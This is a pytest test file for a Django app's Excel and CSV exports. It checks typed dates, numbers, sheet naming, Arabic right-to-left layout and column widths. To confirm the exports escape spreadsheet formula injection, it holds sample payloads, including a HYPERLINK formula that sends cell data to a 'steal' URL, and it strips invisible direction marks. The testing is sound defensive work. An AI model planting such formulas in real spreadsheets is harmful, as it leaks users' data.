"""Excel exports people can work with: typed cells (dates read day/month/year, numbers,
translated yes/no), a sheet named after the list, a bold frozen and filtered header, fitted
widths, right to left in Arabic; no formula, no invisible direction mark; the same values in
the CSV. Every export goes through `targa.core.exports`: the list exports, the province
workbooks prepared as jobs, the admin's Excel."""

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from cpde.models import Recommendation
from provinces.models import Commune, ExecutionContract
from targa.core import exports
from targa.core.models import Job
from tests.conftest import client_for
from tests.factories import (
    ContactFactory,
    ExecutionContractFactory,
    MeetingFactory,
    RecommendationFactory,
    StakeholderFactory,
)
from tests.jobs_support import run_queued_tasks

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.org/steal?x="&A1,"Cliquez ici")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
# Every direction mark or embedding a cell must not hold.
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def book_of(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.content))


def sheet_of(response):
    return book_of(response).active


def column(sheet, header: str) -> list:
    """The cells of the column under `header` (the header row excluded)."""
    headers = [c.value for c in sheet[1]]
    index = headers.index(header)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def plural(model, language: str) -> str:
    with translation.override(language):
        return str(model._meta.verbose_name_plural).capitalize()


def label(msgid: str, language: str = "fr") -> str:
    with translation.override(language):
        return translation.gettext(msgid)


def recommendation_url(province, **query) -> str:
    url = reverse("cpde:recommendation_list", args=[province.code])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


@pytest.fixture
def recommendations(users, province_a):
    meeting = MeetingFactory(
        province=province_a, by=users["coord_a"], date=datetime.date(2026, 1, 12)
    )
    late = RecommendationFactory(
        meeting=meeting,
        by=users["agent_a"],
        text="Relancer la DPA sur le dossier des coopératives.",
        due_date=datetime.date(2026, 2, 1),
    )
    hostile = [RecommendationFactory(meeting=meeting, by=users["agent_a"], text=t) for t in HOSTILE]
    marked = RecommendationFactory(
        meeting=meeting,
        by=users["agent_a"],
        text="\u200fتتبع\u200f ملف التعاونيات\u061c (DPA)\u200e.",
        owner_name="\u202bالمديرية الإقليمية\u202c",
    )
    return {"late": late, "hostile": hostile, "marked": marked}


# Typed cells.


def test_dates_are_excel_dates_read_day_month_year(users, province_a, recommendations):
    sheet = sheet_of(
        client_for(users["agent_a"]).get(recommendation_url(province_a, export="xlsx"))
    )
    due = [c for c in column(sheet, label("Due date")) if c.value is not None]
    assert len(due) == 1
    assert due[0].is_date and due[0].value.date() == datetime.date(2026, 2, 1)
    assert due[0].number_format == "dd/mm/yyyy"
    meeting_dates = column(sheet, label("Meeting date"))
    assert all(c.is_date and c.number_format == "dd/mm/yyyy" for c in meeting_dates)
    assert {c.value.date() for c in meeting_dates} == {datetime.date(2026, 1, 12)}


def test_datetimes_are_morocco_local_time_naive_in_the_cell():
    # 07:20 UTC on 1 December 2026 is 08:20 in Casablanca (UTC+1 outside Ramadan).
    at = datetime.datetime(2026, 12, 1, 7, 20, tzinfo=datetime.UTC)
    out = io.BytesIO()
    table = exports.Table(title="Essai", headers=["Quand"], rows=[[at]])
    exports.write_book([table], out)
    cell = load_workbook(out).active["A2"]
    assert cell.is_date and cell.number_format == "dd/mm/yyyy hh:mm"
    assert cell.value == datetime.datetime(2026, 12, 1, 8, 20)
    assert cell.value.tzinfo is None
    assert timezone.localtime(at).replace(tzinfo=None) == cell.value


def test_numbers_are_numbers_and_money_reads_in_dirhams(users, province_a):
    ExecutionContractFactory(
        province=province_a,
        in_progress=True,
        reference="CSE-42",
        budget=Decimal("1450000.50"),
        duration_months=18,
    )
    url = reverse("provinces:contract_list", args=[province_a.code])
    sheet = sheet_of(client_for(users["viewer"]).get(url, {"export": "xlsx"}))
    budget = column(sheet, label("Budget (MAD)"))[0]
    assert budget.data_type == "n" and budget.value == pytest.approx(1450000.50)
    assert budget.number_format == exports.MONEY_FORMAT == '#,##0.00 "MAD"'
    months = column(sheet, label("Duration (months)"))[0]
    assert (months.data_type, months.value, months.number_format) == ("n", 18, "#,##0")
    signed = column(sheet, label("Signature date"))[0]
    assert signed.is_date and signed.value.date() == datetime.date(2021, 3, 15)
    assert column(sheet, label("Status"))[0].value == str(
        ExecutionContract.Status.IN_PROGRESS.label
    )


def test_a_meeting_time_is_an_excel_time(users, province_a):
    MeetingFactory(province=province_a, by=users["coord_a"], start_time=datetime.time(9, 30))
    url = reverse("cpde:meeting_list", args=[province_a.code])
    sheet = sheet_of(client_for(users["viewer"]).get(url, {"export": "xlsx"}))
    start = column(sheet, label("Start time"))[0]
    assert start.is_date and start.number_format == "hh:mm"
    assert start.value == datetime.time(9, 30)


@pytest.mark.parametrize("language", ["fr", "ar"])
def test_booleans_are_translated_labels(users, province_a, recommendations, language):
    client = client_for(users["agent_a"], language)
    sheet = sheet_of(client.get(recommendation_url(province_a, export="xlsx")))
    late = column(sheet, label("Late", language))
    by_text = {
        t.value: v.value
        for t, v in zip(column(sheet, label("Recommendation", language)), late, strict=True)
    }
    assert by_text[recommendations["late"].text] == label("yes", language)
    assert by_text["+1+1"] == label("no", language)
    assert {c.data_type for c in late} == {"s"}


def test_empty_values_are_empty_cells_not_none_or_blank_text(users, province_a, recommendations):
    sheet = sheet_of(
        client_for(users["agent_a"]).get(recommendation_url(province_a, export="xlsx"))
    )
    owner_name = column(sheet, label("Responsible person or service"))
    empty = [c for c in owner_name if c.value is None]
    assert len(empty) == len(owner_name) - 1  # only the marked one has a person
    assert all(c.data_type == "n" for c in empty)  # no empty inline string
    for row in sheet.iter_rows(min_row=2, values_only=True):
        assert "None" not in row and "" not in row


# The sheet.


@pytest.mark.parametrize("language", ["fr", "ar"])
def test_the_sheet_is_named_frozen_filtered_and_fitted(
    users, province_a, recommendations, language
):
    client = client_for(users["agent_a"], language)
    book = book_of(client.get(recommendation_url(province_a, export="xlsx")))
    sheet = book.active
    assert sheet.title == plural(Recommendation, language)
    assert sheet.title != "Tablib Dataset"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:K{sheet.max_row}"
    assert all(c.font.bold for c in sheet[1]) and not sheet["A2"].font.bold
    assert sheet.print_title_rows == "$1:$1"  # the header on every printed page
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert len(widths) == sheet.max_column == 11
    assert all(exports.MIN_WIDTH <= w <= exports.MAX_WIDTH for w in widths.values())
    assert book.properties.creator == "Targa"
    assert book.properties.title == plural(Recommendation, language)


def test_arabic_sheets_read_right_to_left_and_french_ones_do_not(
    users, province_a, recommendations
):
    url = recommendation_url(province_a, export="xlsx")
    assert sheet_of(client_for(users["agent_a"], "ar").get(url)).sheet_view.rightToLeft
    assert not sheet_of(client_for(users["agent_a"], "fr").get(url)).sheet_view.rightToLeft
    assert plural(Recommendation, "ar") != plural(Recommendation, "fr")


def test_widths_follow_the_content_within_bounds(users, province_a, recommendations):
    RecommendationFactory(
        meeting=recommendations["late"].meeting, by=users["agent_a"], text="Long " * 40
    )
    sheet = sheet_of(
        client_for(users["agent_a"]).get(recommendation_url(province_a, export="xlsx"))
    )
    headers = [c.value for c in sheet[1]]

    def width(header):
        return sheet.column_dimensions[chr(ord("A") + headers.index(header))].width

    assert width(label("Recommendation")) == exports.MAX_WIDTH  # 200 characters, capped
    long_text = next(
        c for c in column(sheet, label("Recommendation")) if c.value.startswith("Long")
    )
    assert long_text.alignment.wrap_text  # the rest wraps inside the column
    # A date column fits "00/00/0000" and its header, and is much narrower than the text.
    assert 10 <= width(label("Due date")) <= 20
    assert exports.MIN_WIDTH <= width(label("Late")) < 20


def test_arabic_vowel_marks_and_direction_marks_take_no_width():
    assert exports._text_width("مُحَمَّد") == 4
    assert exports._text_width("\u200fتتبع\u200f") == 4
    assert exports._text_width("Khénifra") == 8
    assert exports._text_width("一二") == 4
    assert exports._text_width("court\nune ligne plus longue") == 21


def test_sheet_titles_are_accepted_by_excel_and_unique():
    assert exports.sheet_title("Coûts [2026]: a/b\\c*d?") == "Coûts 2026 a b c d"
    assert exports.sheet_title("'Cité'") == "Cité"
    assert exports.sheet_title("History") != "History"
    long = exports.sheet_title("Feuille de route du renforcement des capacités")
    assert len(long) <= 31 and long.endswith("…") and long.startswith("Feuille de route")
    out = io.BytesIO()
    tables = [exports.Table(title="Contrats spécifiques d'exécution", headers=["x"], rows=[])]
    tables += [exports.Table(title="contrats spécifiques d'exécution", headers=["x"], rows=[])]
    exports.write_book(tables, out)
    names = load_workbook(out).sheetnames
    assert len(set(n.casefold() for n in names)) == 2
    assert all(len(n) <= 31 for n in names)


# No formulas, no invisible marks, many values one per line.


def test_hostile_text_stays_text_never_a_formula(users, province_a, recommendations):
    response = client_for(users["agent_a"]).get(recommendation_url(province_a, export="xlsx"))
    sheet = sheet_of(response)
    texts = {c.value: c for c in column(sheet, label("Recommendation"))}
    for hostile in HOSTILE:
        written = hostile.replace("\r", "\n")  # line breaks are \n in a cell
        cell = texts[written]
        assert cell.data_type == "s", hostile
        assert cell.quotePrefix, hostile  # Excel keeps it text when the cell is edited
    for row in sheet.iter_rows():
        assert all(c.data_type != "f" for c in row)
    with zipfile.ZipFile(io.BytesIO(response.content)) as xlsx:
        xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_the_csv_escapes_formulas_too(users, province_a, recommendations):
    body = client_for(users["agent_a"]).get(recommendation_url(province_a, export="csv"))
    text = body.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    index = rows[0].index(label("Recommendation"))
    cells = [r[index] for r in rows[1:]]
    assert "'" + HOSTILE[0] in cells and "'+1+1" in cells and "'@SUM(A1:A9)" in cells
    assert "'\t=1+1" in cells and "'\n=1+1" in cells  # a carriage return is a line feed
    assert not any(c.startswith(exports.FORMULA_STARTS) for c in cells)


def test_no_cell_holds_an_invisible_direction_mark(users, province_a, recommendations):
    response = client_for(users["agent_a"], "ar").get(recommendation_url(province_a, export="xlsx"))
    sheet = sheet_of(response)
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "تتبع ملف التعاونيات (DPA)." in values and "المديرية الإقليمية" in values
    assert not any(BIDI.search(v) for v in values)
    with zipfile.ZipFile(io.BytesIO(response.content)) as xlsx:
        for name in xlsx.namelist():
            assert not BIDI.search(xlsx.read(name).decode("utf-8", "replace")), name
    body = client_for(users["agent_a"], "ar").get(recommendation_url(province_a, export="csv"))
    assert not BIDI.search(body.content.decode("utf-8-sig"))


def test_many_to_many_values_are_one_per_line(users, province_a):
    communes = list(Commune.objects.filter(province=province_a).order_by("name_fr")[:2])
    stakeholder = StakeholderFactory(
        province=province_a, name="Coopérative Amal", communes=communes
    )
    ContactFactory(stakeholder=stakeholder, name="Fatima", role="présidente", phone="0535 00 00 00")
    ContactFactory(stakeholder=stakeholder, name="Saïd", role="trésorier")
    url = reverse("provinces:stakeholder_list", args=[province_a.code])
    client = client_for(users["viewer"])
    sheet = sheet_of(client.get(url, {"export": "xlsx"}))
    covered = column(sheet, label("Communes covered"))[0]
    names = sorted(str(c) for c in communes)
    assert sorted(covered.value.split("\n")) == names and ", " not in covered.value
    assert covered.alignment.wrap_text
    contacts = column(sheet, label("Contacts"))[0].value
    assert contacts.split("\n") == ["Fatima – présidente – 0535 00 00 00", "Saïd – trésorier"]
    rows = list(
        csv.reader(io.StringIO(client.get(url, {"export": "csv"}).content.decode("utf-8-sig")))
    )
    index = rows[0].index(label("Communes covered"))
    assert sorted(rows[1][index].split("\n")) == names


def test_control_characters_and_huge_text_do_not_break_the_file():
    out = io.BytesIO()
    rows = [["bip\x07\x0b fin", "x" * 40_000]]
    exports.write_book([exports.Table(title="Essai", headers=["a", "b"], rows=rows)], out)
    sheet = load_workbook(out).active
    assert sheet["A2"].value == "bip fin"
    assert len(sheet["B2"].value) == exports.EXCEL_CELL_MAX and sheet["B2"].value.endswith("…")


# CSV.


def test_the_csv_holds_the_same_plain_values(users, province_a, recommendations):
    ExecutionContractFactory(
        province=province_a, in_progress=True, budget=Decimal("1450000.50"), duration_months=18
    )
    client = client_for(users["viewer"])
    body = client.get(reverse("provinces:contract_list", args=[province_a.code]), {"export": "csv"})
    assert body.content.startswith("\ufeff".encode())  # UTF-8 with a BOM: Excel reads accents
    rows = list(csv.DictReader(io.StringIO(body.content.decode("utf-8-sig"))))
    row = rows[0]
    assert row[label("Signature date")] == "2021-03-15"  # ISO 8601, one meaning everywhere
    assert row[label("Budget (MAD)")] == "1450000.50"
    assert row[label("Duration (months)")] == "18"
    assert row[label("Notes")] == ""
    body = client.get(recommendation_url(province_a, export="csv"))
    late = {
        r[label("Recommendation")]: r[label("Late")]
        for r in csv.DictReader(io.StringIO(body.content.decode("utf-8-sig")))
    }
    assert late[recommendations["late"].text] == label("yes")


# Workbooks prepared as jobs, and the admin.


@pytest.mark.parametrize("language", ["fr", "ar"])
def test_the_province_workbook_has_named_typed_sheets_in_the_export_language(
    users, province_a, recommendations, language
):
    agent = client_for(users["agent_a"], language)
    agent.post(
        reverse("exports:province", args=[province_a.code]),
        {"exporter": "cpde.workbook", "format": "xlsx"},
    )
    assert run_queued_tasks() == 1
    job = Job.objects.get()
    assert job.state == "done", job.error
    body = b"".join(agent.get(reverse("jobs:download", args=[job.pk])).streaming_content)
    book = load_workbook(io.BytesIO(body))
    assert plural(Recommendation, language) in book.sheetnames
    assert len(set(book.sheetnames)) == len(book.sheetnames) == 5
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
        assert bool(sheet.sheet_view.rightToLeft) == (language == "ar")
    sheet = book[plural(Recommendation, language)]
    due = [c for c in column(sheet, label("Due date", language)) if c.value is not None]
    assert due and all(c.is_date and c.number_format == "dd/mm/yyyy" for c in due)
    with translation.override(language):
        assert book.properties.title == f"{label('CPDE workbook', language)} · {province_a.name}"
    assert book.properties.creator == "Targa"


@pytest.mark.parametrize("language", ["fr", "ar"])
def test_the_programme_workbook_s_sheets_are_named_in_full(users, province_a, language):
    ExecutionContractFactory(province=province_a, in_progress=True)
    agent = client_for(users["agent_a"], language)
    agent.post(
        reverse("exports:province", args=[province_a.code]),
        {"exporter": "provinces.programme", "format": "xlsx"},
    )
    run_queued_tasks()
    job = Job.objects.get()
    body = b"".join(agent.get(reverse("jobs:download", args=[job.pk])).streaming_content)
    names = load_workbook(io.BytesIO(body)).sheetnames
    # The contracts' plural name is 32 characters long: the sheet takes the menu's word.
    assert names[0] == label("Contracts", language)
    assert all(len(n) <= 31 and not n.endswith("…") for n in names), names


def test_the_admin_excel_export_is_typed_and_named(users):
    admin = client_for(users["admin"])
    url = reverse("admin:provinces_region_export")
    page = admin.get(url).content.decode()
    choice = re.search(r'<option value="(\d+)"[^>]*>xlsx</option>', page).group(1)
    data = {"format": choice, "resource": "0"}
    data.update({f"regionresource_{f}": "on" for f in ("code", "name_fr", "population")})
    response = admin.post(url, data)
    sheet = sheet_of(response)
    assert sheet.title == "Régions" and sheet.freeze_panes == "A2"
    code, name, population = (c for c in sheet[2])
    assert (code.data_type, name.data_type, population.data_type) == ("s", "s", "n")
    assert population.value > 0 and population.number_format == "#,##0"
